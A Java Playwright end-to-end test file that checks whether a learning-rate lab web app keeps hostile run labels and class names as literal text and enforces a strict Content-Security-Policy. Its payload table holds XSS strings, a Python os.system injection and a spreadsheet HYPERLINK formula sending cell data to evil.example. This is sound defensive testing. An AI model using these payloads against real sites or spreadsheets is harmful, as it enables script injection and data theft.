package dev.lrlab.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.microsoft.playwright.BrowserContext;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.Response;
import com.microsoft.playwright.options.RequestOptions;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * User text is data on every page: hostile strings as run labels (and a class's display name and
 * question) reach short links, embeds, {@code ?s=} links after Run, Compare and the class pages.
 * Every payload that runs increments {@code window.__hits} (set to 0 before any page script), and a
 * listener collects Content-Security-Policy violations. Each page must show every label as literal
 * text in its chart legend, run none of them (0 hits) and report no violation, so both walls hold
 * on their own: escaping (the legend text) and the policy (no violation, not even a blocked one).
 */
class HostileStringsIT extends BrowserTestBase {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String HIT = "__hits++";

    /** The hostile table: every entry is a run label. */
    static final List<String> HOSTILE = List.of(
            "<img src=x onerror=" + HIT + ">",
            "<svg onload=" + HIT + "></svg>",
            "\"><script>" + HIT + "</script>",
            "javascript:" + HIT,
            "{{constructor.constructor('" + HIT + "')()}} ${" + HIT + "}",
            "'''\"\"\"\nimport os; os.system('touch /tmp/lrlab-pwned')\n\"\"\"'''",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "\u202Eevil\u202C zero\u200Bwidth 🔥 η 中文 עברית",
            "x".repeat(1970) + "<img src=x onerror=" + HIT + ">");

    /** Total payload executions over every page of this class (reported at the end; must be 0). */
    private static int totalHits;
    private static int pagesChecked;

    @BeforeEach
    void countPayloadsAndViolations() {
        context.addInitScript("window.__hits = 0; window.__csp = [];"
                + "document.addEventListener('securitypolicyviolation', e => window.__csp.push("
                + "e.effectiveDirective + ' blocked ' + e.blockedURI + ' at ' + e.sourceFile + ':' + e.lineNumber));");
    }

    @AfterAll
    static void report() {
        System.out.printf("HostileStringsIT: %d payload executions over %d hostile strings on %d page visits%n",
                totalHits, HOSTILE.size(), pagesChecked);
    }

    /** Two specs of 20-step runs, together every hostile label (a legend shows from two runs on). */
    static List<Map<String, Object>> specs() {
        List<Map<String, Object>> specs = new ArrayList<>();
        for (List<String> labels : List.of(HOSTILE.subList(0, 5), HOSTILE.subList(5, HOSTILE.size()))) {
            List<Map<String, Object>> runs = new ArrayList<>();
            for (int i = 0; i < labels.size(); i++) {
                Map<String, Object> run = new LinkedHashMap<>();
                run.put("label", labels.get(i));
                run.put("steps", 20);
                run.put("optimizer", Map.of("type", "sgd", "lr", 0.02 + 0.01 * i));
                runs.add(run);
            }
            specs.add(Map.of("landscape", Map.of("type", "quadratic", "eigenvalues", List.of(1, 10)), "runs", runs));
        }
        return specs;
    }

    private String post(String path, Object body) throws Exception {
        return page.request().post(url(path), RequestOptions.create().setHeader("Content-Type", "application/json")
                .setData(JSON.writeValueAsString(body))).text();
    }

    /** Payload runs and policy violations so far on this page; adds them to the class's total. */
    private void assertNothingRan(Page p, String where) {
        int hits = ((Number) p.evaluate("() => window.__hits")).intValue();
        @SuppressWarnings("unchecked")
        List<String> csp = (List<String>) p.evaluate("() => window.__csp");
        totalHits += hits;
        pagesChecked++;
        assertThat(hits).as("payload executions on " + where).isZero();
        assertThat(csp).as("CSP violations on " + where).isEmpty();
    }

    /**
     * Shows every chart (each draws its points and ApexCharts its legend once it has been on
     * screen), counts what ran, then checks that every label shows as its own characters in a
     * legend and that no legend holds an element.
     */
    private void assertLegendsShowLiterally(Page p, List<String> labels, String where) {
        p.evaluate("async () => { for (const c of document.querySelectorAll('lr-chart')) {"
                + " c.scrollIntoView(); await new Promise(r => setTimeout(r, 300)); } }");
        p.waitForFunction("() => document.querySelectorAll('.apexcharts-legend-text').length > 0");
        assertNothingRan(p, where);
        @SuppressWarnings("unchecked")
        List<String> legend = (List<String>) p.evaluate(
                "() => [...document.querySelectorAll('.apexcharts-legend-text')].map(e => e.textContent)");
        for (String label : labels) {
            assertThat(legend).as("legend on " + where).anySatisfy(t -> assertThat(t).contains(label));
        }
        assertThat(p.evaluate("() => document.querySelectorAll('.apexcharts-legend-text *').length"))
                .as("elements parsed out of labels on " + where).isEqualTo(0);
    }

    /**
     * Moves the mouse into the loss chart so its tooltip (which shows the labels) is drawn. The chart
     * may redraw its SVG between two calls (the run's last batch), so the box is taken again.
     */
    private static void hoverInsideTheLossChart(Page p) {
        for (int attempt = 0; attempt < 10; attempt++) {
            com.microsoft.playwright.Locator svg = p.locator("#chart-loss .apexcharts-svg");
            svg.hover();
            com.microsoft.playwright.options.BoundingBox box = svg.boundingBox();
            if (box != null) {
                p.mouse().move(box.x + 200, box.y + 100);
                return;
            }
            p.waitForTimeout(200);
        }
        throw new AssertionError("the loss chart never stayed in place long enough to hover it");
    }

    @Test
    void hostileLabelsStayTextOnLinkPagesEmbedsShareLinksAndCompare() throws Exception {
        List<Map<String, Object>> specs = specs();
        for (Map<String, Object> spec : specs) {
            @SuppressWarnings("unchecked")
            List<String> labels = ((List<Map<String, Object>>) spec.get("runs")).stream()
                    .map(r -> (String) r.get("label")).toList();
            String id = JSON.readTree(post("/api/links", spec)).path("id").asText();
            assertThat(id).as("short link of " + labels).hasSize(10);
            String code = JSON.readTree(post("/api/share", spec)).path("code").asText();

            // the short link, after Run, with a tooltip shown over the loss chart
            PlaygroundPage linkPage = new PlaygroundPage(page).open(url("/l/" + id));
            linkPage.runToEnd();
            linkPage.showCharts();
            hoverInsideTheLossChart(page);
            assertLegendsShowLiterally(page, labels, "/l/" + id);
            String csv = (String) page.evaluate("() => document.querySelector('#chart-loss').csv()");
            if (labels.contains(HOSTILE.get(6))) {
                // the chart's own CSV: a formula label is text in a spreadsheet
                assertThat(csv).contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")");
            }

            // the embed plays by itself: no click needed for a payload to run
            page.navigate(url("/embed/l/" + id + "?autoplay=1"));
            page.waitForFunction("() => document.querySelector('#landscape') && "
                    + "document.querySelector('#landscape').pointCount(0) === 21");
            assertLegendsShowLiterally(page, labels, "/embed/l/" + id);

            // the ?s= link after Run
            PlaygroundPage shared = new PlaygroundPage(page).open(url("/playground?s=" + code));
            shared.runToEnd();
            assertLegendsShowLiterally(page, labels, "/playground?s=");

            // Compare: the experiment and its copy, overlay charts naming panel and run
            ComparePage compare = new ComparePage(page).open(url("/compare?s=" + code));
            compare.run();
            compare.waitForPoints(2, 21);
            assertLegendsShowLiterally(page, labels, "/compare");
        }
        assertThat(totalHits).isZero();
    }

    @Test
    void aHostileDisplayNameAndQuestionStayTextOnTheClassPages() throws Exception {
        String name = "<img src=x onerror=" + HIT + ">"; // 26 characters: a name may have 40
        String question = "<svg onload=" + HIT + "></svg> \"><script>" + HIT + "</script> =1+1";
        ClassPages.Teacher teacher = new ClassPages.Teacher(page);
        String classCode = teacher.start(url(""));
        String share = JSON.readTree(post("/api/share", specs().get(0))).path("code").asText();
        teacher.pushShareCode(share);
        page.waitForFunction("() => document.querySelector('#teach-pushed').innerText.includes('Pushed')");
        teacher.fill("#question-text", question);
        teacher.ask();

        BrowserContext other = newContext(new com.microsoft.playwright.Browser.NewContextOptions()
                .setViewportSize(1280, 800).setLocale("en-US"));
        try {
            other.addInitScript("window.__hits = 0; window.__csp = [];"
                    + "document.addEventListener('securitypolicyviolation', e => window.__csp.push(e.effectiveDirective));");
            Page seatPage = other.newPage();
            seatPage.setDefaultTimeout(20_000);
            new ClassPages.Student(seatPage).join(url(""), classCode, name);
            seatPage.waitForFunction("q => document.querySelector('#seat-question').textContent.includes(q)", question);
            teacher.click("#pace-start"); // the seat's run plays: its charts draw their legends
            seatPage.waitForFunction("() => document.querySelector('#seat-phase').dataset.phase === 'running'");
            assertLegendsShowLiterally(seatPage, List.copyOf(HOSTILE.subList(0, 5)), "the seat");

            // the dashboard's gallery names the seat with the characters typed
            page.waitForFunction("n => [...document.querySelectorAll('#gallery .lr-gallery-name')]"
                    + ".some(e => e.textContent === n)", name);
            assertNothingRan(page, "the dashboard");

            String projector = page.locator("#projector-link").getAttribute("href");
            page.navigate(url("/" + projector.replaceFirst("^/", "")));
            page.waitForSelector("#projector-phase");
            page.waitForTimeout(500);
            assertNothingRan(page, "the projector");
        } finally {
            other.close();
        }
    }

    /**
     * Every page opens and works under the policy: the page's header, its main element, no
     * violation. The playground also runs and draws a chart's PNG (ApexCharts' export goes
     * through an image of its SVG), the presets typeset KaTeX.
     */
    @Test
    void everyPageWorksUnderTheContentSecurityPolicy() throws Exception {
        String id = JSON.readTree(post("/api/links", specs().get(1))).path("id").asText();
        Map<String, String> pages = new LinkedHashMap<>();
        pages.put("/", "#chart-loss .apexcharts-svg");
        pages.put("/compare", "#panel-1 lr-landscape");
        pages.put("/presets", ".katex");
        pages.put("/about", "#idea-index");
        pages.put("/class", "#start-class");
        pages.put("/join", "#join-name");
        pages.put("/l/" + id, "#chart-loss .apexcharts-svg");
        pages.put("/embed/l/" + id + "?autoplay=1", "#landscape");
        pages.put("/broken-link?reason=address", "#broken-address");
        pages.put("/no-such-page", "#not-found");
        pages.put("/l/ZZZZZZZZZZ", "#broken-link");
        for (Map.Entry<String, String> e : pages.entrySet()) {
            Response r = page.navigate(url(e.getKey()));
            String policy = r.headerValue("content-security-policy");
            assertThat(policy).as("policy of " + e.getKey())
                    .contains("object-src 'none'", "base-uri 'self'", "form-action 'self'")
                    .contains(e.getKey().startsWith("/embed/") ? "frame-ancestors *" : "frame-ancestors 'self'");
            String scripts = policy.replaceAll(".*(script-src[^;]*);.*", "$1");
            assertThat(scripts).as("script-src of " + e.getKey()).contains("'sha256-").doesNotContain("'unsafe-inline'");
            page.waitForSelector(e.getValue());
            if (e.getKey().equals("/")) {
                PlaygroundPage p = new PlaygroundPage(page);
                p.runToEnd();
                Object png = page.evaluate("() => document.querySelector('#chart-loss').chart.dataURI()"
                        + ".then(d => d.imgURI.slice(0, 22))");
                assertThat(png).isEqualTo("data:image/png;base64,");
            }
            page.waitForTimeout(300); // late violations (fonts, pictures) would arrive by now
            assertNothingRan(page, e.getKey());
        }
        assertThat(page.request().get(url("/api/presets")).headers()).containsEntry("x-content-type-options", "nosniff");
    }
}
